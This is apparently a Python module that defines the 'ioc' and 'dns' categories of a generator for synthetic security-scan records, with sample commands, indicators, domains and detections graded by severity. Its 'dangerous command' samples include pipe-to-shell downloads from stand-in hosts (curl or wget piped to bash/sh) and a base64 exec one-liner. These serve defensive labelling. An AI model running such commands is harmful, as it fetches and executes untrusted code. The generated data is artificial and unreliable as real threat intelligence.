"""Categories about traces of an intruder: indicators of compromise, DNS."""

from __future__ import annotations

from .kinds import DISTRO, EXECUTION, HOSTS, KERNEL, USERS, VERSIONS, Choice, Kind, each

IOC = Kind(
    category="ioc",
    rows=75,
    id="ioc_{hex8}",
    tags=("process", "ioc"),
    # Real scans write numbers and booleans of this category as strings.
    draw={"number": range(1000, 9999), "pid": "{number}", "octet": range(2, 250), "host": HOSTS, "login": USERS}
    | VERSIONS,
    one=(
        Choice(
            "the command is a desktop program",
            ("a standard command", "a standard desktop program"),
            each(
                "command",
                "/usr/bin/firefox",
                "/usr/bin/gnome-shell",
                "/usr/bin/code",
            ),
        ),
        Choice(
            "the command is a tool that attackers use as well",
            ("an unusual command", "an unusual tool that attackers use as well"),
            each(
                "command",
                "/usr/bin/python3 /srv/job.py",
                "/usr/bin/curl -O https://mirror.example.org/a.iso",
                "/usr/bin/tcpdump -i any",
                "/usr/bin/base64 -d",
            ),
        ),
        Choice(
            "the command fetches code and runs it, or hides its file",
            ("a dangerous command", "a dangerous download that runs at once"),
            (
                {"command": "curl http://evil.test/sh | bash"},
                {"command": "wget -qO- http://drop.test/a | sh"},
                {"command": "/tmp/.x/payload -d", "world_writable_executable": "true"},
                {"command": "/dev/shm/.u (gone)", "deleted_executable": "true"},
                {"command": "python3 -c exec(base64 ...)"},
            ),
        ),
    ),
    two=(
        Choice(
            "no pattern matched",
            ("nothing matched, as expected", "no match, as expected"),
            (
                {"pattern_match": "false", "context": "shared hosting"},
                {"pattern_match": "false", "context": "public CDN"},
            ),
        ),
        Choice(
            "a pattern matched an anonymous relay",
            ("a doubtful relay matched", "the match is a doubtful relay"),
            ({"pattern_match": "true", "context": "tor exit"}, {"pattern_match": "true", "context": "open proxy"}),
        ),
        Choice(
            "a pattern matched a known control server",
            ("a confirmed control server matched", "the match is a confirmed attacker"),
            ({"pattern_match": "true", "context": "known C2"}, {"pattern_match": "true", "context": "payload staging"}),
        ),
    ),
    grid=("ilm", "lmh", "mhc"),
    titles=(
        "Indicator check of PID {pid}",
        "Command against indicators",
        "IOC scan on {host}",
        "Process {pid} and {indicator_type}",
    ),
    descriptions=(
        "{host} runs {one}; {two}.",
        "{login} started {one} on {host}; {two}.",
        "PID {pid} is {one}, and {two}.",
        "Compared with the {indicator_type} list: {one}; {two}.",
        "PID {pid} of {login} is {one}.",
    ),
    metadata=(
        "command",
        "pid",
        "pattern_match",
        "indicator",
        "indicator_type",
        "context",
        "deleted_executable",
        "world_writable_executable",
    ),
    then={
        "pair": (
            ["ip", "45.67.230.{octet}"],
            ["domain", "cdn{octet}.example.dev"],
            ["url", "hxxp://a.test/{octet}"],
            ["hash", "{hex8}{hex8}"],
            ["yara", "elf_packed_{octet}"],
            ["registry", "HKCU\\Run\\job{octet}"],
        ),
        "indicator_type": "{pair[0]}",
        "indicator": "{pair[1]}",
    },
    aside=(*DISTRO, {"kernel": KERNEL}, {"kb_refs": [EXECUTION]}),
)

DNS = Kind(
    category="dns",
    rows=70,
    id="dns_{n}_{severity}",
    tags=("dns",),
    draw={
        "host": HOSTS,
        "number": range(10, 999),
        "octet": range(2, 250),
        "minute": range(10, 59),
        "ttl": range(30, 600),
        "resolver": ("1.1.1.1", "9.9.9.9", "10.0.0.2"),
        "client_ip": "10.0.1.{octet}",
        "query_type": ("A", "AAAA", "CNAME"),
    }
    | VERSIONS,
    one=(
        Choice(
            "the name is an ordinary one",
            ("a standard name", "a standard domain"),
            each("domain", "www.example{number}.com", "deb.debian.org", "api.github.com", "pypi.org"),
        ),
        Choice(
            "the name is new and under a cheap top-level domain",
            ("an unusual name", "an unusual name registered last week"),
            each("domain", "edge{number}.xyz", "cdn{number}.top", "img{number}.click"),
        ),
        Choice(
            "the name is on the watch list",
            ("a dangerous name", "a dangerous name from the watch list"),
            each("domain", "dropper.mal", "cryptominer.pool", "steal-data.co"),
        ),
    ),
    two=(
        Choice(
            "no detector fired",
            ("no detector fired, as expected", "the detectors are silent, as expected"),
            ({"detections": []},),
        ),
        Choice(
            "its addresses change fast",
            ("its changing addresses are doubtful", "a doubtful fast_flux pattern showed"),
            ({"detections": ["fast_flux"]},),
        ),
        Choice(
            "data is hidden in the queries",
            ("tunnelling is confirmed", "the queries carry data, a confirmed tunnel"),
            (
                {"detections": ["dns_tunneling"], "query_type": "TXT"},
                {"detections": ["dns_tunneling", "domain_generation"], "query_type": "TXT"},
            ),
        ),
    ),
    grid=("ilm", "lmh", "mhc"),
    titles=("Name lookup: {domain}", "Lookup by {client_ip}", "{query_type} query", "Resolver {resolver} was asked"),
    descriptions=(
        "{host} looked up {one}; {two}.",
        "{client_ip} asked for {one}: {two}.",
        "{domain} is {one}, and {two}.",
        "Query type {query_type} for {one}; {two}.",
        "A client asked {resolver} for {one}.",
    ),
    metadata=("domain", "ttl", "resolver", "query_type", "client_ip", "detections"),
    then={},
    aside=(
        *DISTRO,
        {"kernel": KERNEL},
        {"kb_refs": ["MITRE ATT&CK: TA0011"]},
        {"query_timestamp": "2025-01-01T09:{minute}"},
    ),
)

INDICATORS = (IOC, DNS)
